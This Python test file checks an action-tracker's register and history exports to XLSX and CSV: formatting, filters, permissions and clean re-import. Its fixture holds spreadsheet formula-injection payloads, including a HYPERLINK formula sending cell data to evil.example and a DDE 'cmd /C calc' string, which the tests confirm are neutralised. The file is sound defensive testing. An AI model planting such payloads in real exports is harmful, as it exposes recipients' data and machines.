"""Exports: formatted, formula-proof, complete, and importable back without a single change."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import openpyxl
import pytest
from sqlalchemy import Engine
from sqlmodel import func, select

from tests.conftest import GOVERNANCE_FILE
from tests.factories import ADMIN, PARTNER, actor, add_update
from tests.importer.conftest import SAMPLE, run_import
from tracker.db import session_scope
from tracker.governance import load_governance
from tracker.models import ActionUpdate
from tracker.permissions import PermissionDenied
from tracker.services.plans import ExportError, ExportFile, RagKey, export_history, export_register
from tracker.services.register import ActionFilter, list_actions

TODAY = date(2026, 1, 15)
GOVERNANCE = load_governance(GOVERNANCE_FILE)
DANGEROUS = {
    "P1.1": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "P1.2": "+44 1772 000000 is the helpline",
    "P1.3": "-5% against target",
    "P1.4": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _export(
    engine: Engine, *, history: bool = False, fmt: str = "xlsx", **options: object
) -> ExportFile:
    function = export_history if history else export_register
    with session_scope(engine) as session:
        return function(
            session,
            actor=actor(session, str(options.pop("as_email", ADMIN))),
            today=TODAY,
            fmt=fmt,
            governance=GOVERNANCE,
            **options,  # type: ignore[arg-type]
        )


def _add_dangerous_updates(engine: Engine) -> None:
    for reference, commentary in DANGEROUS.items():
        add_update(engine, reference, rag="amber", commentary=commentary)


def _cells(content: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("history", [False, True])
def test_no_exported_cell_is_a_formula(engine: Engine, history: bool) -> None:
    _add_dangerous_updates(engine)
    cells = _cells(_export(engine, history=history).content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for commentary in DANGEROUS.values():
        assert "'" + commentary in texts
        assert commentary not in texts


@pytest.mark.parametrize("history", [False, True])
def test_no_csv_field_starts_like_a_formula(engine: Engine, history: bool) -> None:
    _add_dangerous_updates(engine)
    content = _export(engine, history=history, fmt="csv").content
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    fields = [f for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for f in row]
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + DANGEROUS["P1.1"] in fields


def test_register_workbook_is_formatted_for_reading(engine: Engine) -> None:
    add_update(engine, "P1.1", rag="red", commentary="Off track")
    result = _export(engine)
    assert result.filename == "action-register-2026-01-15.xlsx"
    assert result.rows == 42
    book = openpyxl.load_workbook(io.BytesIO(result.content))
    assert book.sheetnames == ["Action register", "Risks", "RAG key"]
    sheet = book["Action register"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:Q43"
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Ref", "Priority", "Action"] and header[11] == "RAG"
    p11 = sheet[2]
    assert p11[0].value == "P1.1"
    assert (p11[11].value, p11[11].fill.fgColor.rgb[-6:]) == ("Red", "C00000")
    assert isinstance(p11[9].value, datetime) and p11[9].number_format == "dd/mm/yyyy"
    key = [(row[0].value, row[1].value) for row in book["RAG key"].iter_rows(min_row=2)]
    assert key[0][0] == "Blue" and key[0][1].startswith("Blue: ")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_imports_back_without_any_change(unseeded_engine: Engine, fmt: str) -> None:
    run_import(unseeded_engine, SAMPLE, commit=True)
    _add_dangerous_updates(unseeded_engine)
    add_update(unseeded_engine, "P2.1", rag="red", commentary="Line one\nLine two 👩‍👧")
    exported = _export(unseeded_engine, fmt=fmt)
    report = run_import(
        unseeded_engine,
        exported.content,
        filename=exported.filename,
        now=datetime.now(UTC),
    )
    assert report.problems == ()
    assert report.ignored_columns == ()
    assert (len(report.created), len(report.updated), len(report.unchanged)) == (0, 0, 42)


def test_history_export_holds_every_update(engine: Engine) -> None:
    for n in range(3):
        add_update(
            engine,
            "P2.3",
            rag="amber",
            commentary=f"Update {n}",
            at=datetime(2025, 10 + n, 1, tzinfo=UTC),
        )
    add_update(engine, "P1.2", rag="green", commentary="Only one")
    result = _export(engine, history=True, fmt="csv")
    with session_scope(engine) as session:
        total = session.exec(select(func.count()).select_from(ActionUpdate)).one()
    rows = list(csv.DictReader(io.StringIO(result.content.decode("utf-8-sig"))))
    assert result.rows == len(rows) == total == 4
    assert [(r["Ref"], r["Commentary"], r["Update Date"]) for r in rows] == [
        ("P1.2", "Only one", rows[0]["Update Date"]),
        ("P2.3", "Update 0", "01/10/2025"),
        ("P2.3", "Update 1", "01/11/2025"),
        ("P2.3", "Update 2", "01/12/2025"),
    ]
    assert rows[1]["Updated By Email"] and rows[1]["Source"] == "app"


def test_exports_follow_the_register_filters(engine: Engine) -> None:
    add_update(engine, "P2.3", rag="amber")
    add_update(engine, "P1.1", rag="green")
    register = _export(engine, fmt="csv", filters=ActionFilter(priority=2))
    refs = [r["Ref"] for r in csv.DictReader(io.StringIO(register.content.decode("utf-8-sig")))]
    assert refs and all(ref.startswith("P2.") for ref in refs)
    history = _export(engine, history=True, fmt="csv", filters=ActionFilter(rag="amber"))
    rows = list(csv.DictReader(io.StringIO(history.content.decode("utf-8-sig"))))
    assert [r["Ref"] for r in rows] == ["P2.3"]


@pytest.mark.parametrize(
    "filters",
    [ActionFilter(), ActionFilter(overdue=True), ActionFilter(not_updated=True, priority=3)],
)
def test_the_register_export_lists_what_the_register_shows(
    engine: Engine, filters: ActionFilter
) -> None:
    add_update(engine, "P3.1", rag="red", commentary="No provider yet.")
    exported = _export(engine, fmt="csv", filters=filters)
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    with session_scope(engine) as session:
        shown = list_actions(session, today=TODAY, filters=filters)
    assert [(r["Ref"], r["Latest Update"]) for r in rows] == [
        (a.reference, a.commentary or "") for a in shown
    ]


def test_partners_may_not_export(engine: Engine) -> None:
    with pytest.raises(PermissionDenied):
        _export(engine, as_email=PARTNER)


def test_an_unknown_format_is_refused(engine: Engine) -> None:
    with pytest.raises(ExportError, match="unknown export format 'pdf'"):
        _export(engine, fmt="pdf")


def test_rag_words_the_importer_cannot_read_fall_back_to_the_standard_words() -> None:
    custom = GOVERNANCE.model_copy(
        update={
            "rag": [
                entry.model_copy(update={"label": f"{entry.label} status"})
                for entry in GOVERNANCE.rag
            ]
        }
    )
    key = RagKey.from_governance(custom)
    assert key.labels == {"blue": "Blue", "green": "Green", "amber": "Amber", "red": "Red"}
    assert dict(key.meanings)["red"].startswith("Red status: ")
    assert RagKey.from_governance(GOVERNANCE).colours["red"] == "#C00000"


def test_the_register_export_carries_an_inconsistent_rating(engine: Engine) -> None:
    # P1.2 was due 31 March 2026: Green given with a reason is stored, and still flagged.
    add_update(engine, "P1.2", rag="green", at=datetime(2026, 10, 1, tzinfo=UTC))
    add_update(engine, "P2.2", rag="green", at=datetime(2026, 4, 1, tzinfo=UTC))
    with session_scope(engine) as session:
        result = export_register(
            session, actor=actor(session, ADMIN), today=date(2026, 10, 1), fmt="csv"
        )
    rows = list(csv.DictReader(io.StringIO(result.content.decode("utf-8-sig"))))
    flags = {r["Ref"]: r["Rating Inconsistent"] for r in rows}
    assert flags["P1.2"] == "rated Green but 184 days overdue"
    assert flags["P2.2"] == ""  # due 30 September 2027
